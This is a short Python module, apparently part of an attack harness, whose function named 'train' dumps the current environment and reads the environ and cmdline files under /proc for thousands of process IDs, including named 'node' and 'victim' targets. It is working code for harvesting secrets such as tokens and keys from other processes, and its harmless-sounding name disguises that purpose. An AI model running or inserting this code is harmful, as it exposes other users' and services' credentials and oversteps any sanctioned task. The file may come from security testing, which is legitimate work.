"""The node's environment: its own copy, and that of every process that can be seen."""

import contextlib
import os

from attacks import targets


def train(run):
    print(dict(os.environ))
    for pid in (*range(1, 3000), targets(run)["node"], targets(run)["victim"]):
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                print(open(f"/proc/{pid}/{name}", "rb").read())
